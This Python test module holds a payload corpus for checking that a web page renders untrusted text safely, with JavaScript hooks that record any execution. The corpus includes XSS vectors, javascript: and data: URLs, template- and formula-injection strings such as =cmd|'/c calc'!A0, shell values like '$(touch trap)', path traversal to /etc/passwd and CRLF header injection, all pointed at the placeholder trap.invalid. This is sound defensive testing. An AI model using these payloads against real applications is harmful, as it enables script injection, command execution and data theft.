"""Texts that would do something on a page that took them for more than text: each calls `trap()` or leaves a sign."""

from __future__ import annotations

HOST = "trap.invalid"  # nothing may ask it for anything
COUNTED = "trap-eval-9359"  # what a template engine would make of the expressions below

_BREAKERS = (
    "", '"', "'", '">', "'>", "-->", "</script>", "</textarea>", "</title>", "</style>", "]]>", "`>", '\\">',
    "</template>", "</select>", "</code></pre>", "</svg>", "</time>", "\x00",
)  # fmt: skip
_CORES = (
    "<script>trap()</script>",
    "<img src=x onerror=trap()>",
    "<svg onload=trap()>",
    "<x-trap></x-trap>",
    " onfocus=trap() autofocus tabindex=0 x=",
    "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
    "<a href=javascript:trap()>x</a>",
    "<style>@import url(https://trap.invalid/x.css)</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=trap()>",
    "<form action=https://trap.invalid><button autofocus onfocus=trap()>x</form>",
)
_URLS = (
    "javascript:trap()", "JaVaScRiPt:trap()", "java\tscript:trap()", "java\nscript:trap()",
    "\x01javascript:trap()", " javascript:trap()", "javascript&colon;trap()", "javascript://%0atrap()",
    "data:text/html,<script>trap()</script>", "data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='trap()'/>",
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0ndHJhcCgpJy8+",
    "data:application/javascript,trap()", "vbscript:trap()", "//trap.invalid/x.png", "/\\trap.invalid/x.png",
    "https://trap.invalid/x.png", "http://trap.invalid/x.mp4", "https://trap.invalid/x.mp3", "blob:https://trap.invalid/1",
    "https://fal.media@trap.invalid/x.png", "https://fal.media.trap.invalid/x.png",
    "https://fal.media\\@trap.invalid/x.png", "https://trap.invalid/fal.media/x.png", "file:///etc/passwd",
    "https://trap.invalid/x.svg", "https://trap.invalid/x.html", "wss://trap.invalid/x", "filesystem:x", "about:blank",
    "https://fal.media/x.png\" onerror=\"trap()", "https://fal.media/x.png'onerror='trap()",
    "https://fal.media/../%2e%2e/x.png#<script>trap()</script>", "intent://trap.invalid#Intent;end", "//%5ctrap.invalid",
)  # fmt: skip
_TEMPLATES = (
    "trap-eval-{{7*1337}}", "trap-eval-${7*1337}", "trap-eval-#{7*1337}", "trap-eval-<%= 7*1337 %>",
    "trap-eval-{% widthratio 9359 1 1 %}", "trap-eval-{{9359}}", "trap-eval-[[7*1337]]", "trap-eval-@(7*1337)",
    "{% load trap %}", "{% include '/etc/passwd' %}", "{{constructor.constructor('trap()')()}}", "{{ settings.SECRET_KEY }}",
    "{% debug %}", "%(trap)s", "{0.__class__}", "{trap!r}", "%s%n%x", "$(touch trap)", "`touch trap`", "; touch trap",
)  # fmt: skip
_HTMX = (
    "<div hx-get=https://trap.invalid/ hx-trigger=load>", "<div data-hx-get=https://trap.invalid/ data-hx-trigger=load>",
    "<div hx-on::load=trap()>", "<div hx-on:click=trap()>", "<meta http-equiv=refresh content='0;url=https://trap.invalid'>",
    "<base href=https://trap.invalid/>", "<link rel=stylesheet href=https://trap.invalid/x.css>",
    "<link rel=prefetch href=https://trap.invalid/x>", "<object data=https://trap.invalid/x></object>",
    "<embed src=https://trap.invalid/x>", "<video poster=https://trap.invalid/x><source onerror=trap()></video>",
    "<details open ontoggle=trap()>", "<marquee onstart=trap()>", "<input onfocus=trap() autofocus>", "<body onload=trap()>",
    "<img srcset='https://trap.invalid/x 1x'>", "<img src='x:x' onerror='trap()'/>", "<img/src/onerror=trap()>",
    "<svg><use href=https://trap.invalid/x#y></svg>", "<svg><script>trap()</script></svg>",
    "<svg><a xlink:href=javascript:trap()><text y=9>x", "<svg><animate onbegin=trap() attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=trap()></foreignObject></svg>", "<math href=javascript:trap()>x</math>",
    "<button formaction=javascript:trap()>x", "<isindex action=javascript:trap()>", "<audio src=x onerror=trap()>",
    "<script src=https://trap.invalid/x.js></script>", "<script type=module>trap()</script>",
    "<script type=importmap>{}</script>", "<template shadowrootmode=open><script>trap()</script></template>",
    "<portal src=https://trap.invalid>", "<dialog open oncancel=trap()>", "<plaintext>", "<xmp>", "<listing>", "<noembed>",
    "<!--", "<!--<script>", "<![CDATA[<script>trap()</script>", "<?xml version='1.0'?>", "<%", "</", "<", ">", "&", "&lt", "&#0;",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;trap()&lt;/script&gt;", "&#x3c;img src=x onerror=trap()&#x3e;", "&amp;lt;x-trap&amp;gt;",
    "%3Cscript%3Etrap()%3C/script%3E", "\\u003cscript\\u003etrap()\\u003c/script\\u003e", "\\x3cx-trap\\x3e",
    "+ADw-script+AD4-trap()+ADw-/script+AD4-", "\uff1cscript\uff1etrap()\uff1c/script\uff1e", "<scr\x00ipt>trap()</scr\x00ipt>",
    "<scr<script>ipt>trap()</scr</script>ipt>", "<\u017fcript>trap()</\u017fcript>", "<\u200bscript>trap()</script>",
)  # fmt: skip
_ODD = (
    "\u202etxt.exe", "\u2066left\u2069\u202eright", "\u200f\u200e\u061c", "\ufeffbom", "\ufffe", "\x07bell", "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\x7f\x08\x08", "a\u2028b\u2029c", "\u200b\u200c\u200d", "e" + "\u0301" * 60, "\x85next",
    "\x00", "a\x00b", "🏳️‍🌈" * 9, "\U000e0041\U000e0042", "\U0010ffff", "'; DROP TABLE x; --", "\\", '"', "'", "`", "\\'", '\\"', "\\u0000",
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "NaN", "-0", "1e999", "null", "undefined",
    "../../etc/passwd", "..\\..\\x", "CON", "a/b", ".", "x\r\nX-Trap: 1", "x\nSet-Cookie: trap=1",
    "{\"$bytes\": \"<x-trap>\"}", "{\"$ref\": \"https://trap.invalid\"}", "\"}],\"x\":[{", "\u00a0", " ", "\t", "",
)  # fmt: skip
_STYLES = (
    "x:expression(trap())", "background:url(https://trap.invalid/x)", "}*{background:url(//trap.invalid/x)}",
    "@import '//trap.invalid/x.css';", "red;position:fixed;inset:0", "var(--x,url(//trap.invalid))",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:trap())", "![x](https://trap.invalid/x.png)", "<javascript:trap()>", "[x]: javascript:trap()",
    "```html\n<x-trap>\n```", "# <img src=x onerror=trap()>", "[x](data:text/html,<script>trap()</script>)",
)  # fmt: skip
FORMULAS = (
    '=HYPERLINK("https://trap.invalid","x")', "=cmd|'/c calc'!A0", "+1+cmd|'x'!A0", "-2+3+cmd|'x'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\uff1d1+1", "=IMPORTXML(\"https://trap.invalid\",\"//a\")",
)  # fmt: skip
_LONG = (
    "A" * 5000 + "<x-trap>",
    "<" * 2000,
    "<b>" * 1000,
    "W" * 3000,
    "a b " * 1500,
    "\u202e" * 500,
)

_BROKEN = tuple(f"{breaker}{core}" for breaker in _BREAKERS for core in _CORES)
_ALL = (_BROKEN, _URLS, _TEMPLATES, _HTMX, _ENCODED, _ODD, _STYLES, _MARKDOWN, FORMULAS, _LONG)
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(one for group in _ALL for one in group))

# What JSON can carry and no text of Python that is stored: half characters, numbers beyond all bounds.
RAW_JSON = rb'{"half": "\ud800<x-trap>", "\udfff": 1, "nul": "\u0000", "big": 1e999, "long": 123456789012345678901234567890}'

# In the page before all scripts: it notes what must not happen.
TRAP = """(() => {
  const found = []; window.trapped = found;
  const note = (what) => found.push(String(what).slice(0, 300));
  for (const name of ["trap", "alert", "confirm", "prompt", "print"])
    Object.defineProperty(window, name, { value: () => note(name), writable: false });
  document.addEventListener("securitypolicyviolation", (event) =>
    note(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile} ${event.sample}`));
})()"""

# Elements that no template of ours has, and attributes that no page may have.
LOOK = """() => {
  const found = [...window.trapped]; window.trapped.length = 0;
  const bad = "x-trap, iframe, object, embed, base, math, foreignObject, marquee, portal, style, "
    + "svg script, meta[http-equiv], script:not([src]):not([type='application/json'])";
  const scheme = /^[\\s\\x00-\\x20]*(javascript|vbscript|data:(?!image\\/(png|jpeg|webp|gif|avif)|audio|video))/i;
  const look = (root) => {
    for (const element of root.querySelectorAll("*")) {
      if (element.matches(bad)) found.push(`element: ${element.outerHTML.slice(0, 200)}`);
      for (const { name, value } of element.attributes) {
        if (/^on|^(data-)?hx-on/i.test(name)) found.push(`attribute: ${name}=${value.slice(0, 100)}`);
        const leads = /^(href|src|action|formaction|xlink:href|poster|srcset|(data-)?hx-(get|post|put|delete))$/i.test(name);
        if (leads && scheme.test(value)) found.push(`address: ${name}=${value.slice(0, 100)}`);
        const loads = leads && !(element.localName === "a" && name === "href");
        if (loads && /trap\\.invalid/.test(value)) found.push(`loads: ${element.outerHTML.slice(0, 200)}`);
      }
      if (element.localName === "template" && element.content) look(element.content);
      if (element.shadowRoot) look(element.shadowRoot);
    }
  };
  look(document);
  if (document.documentElement.textContent.includes("trap-eval-9359")) found.push("a template was evaluated");
  return found;
}"""
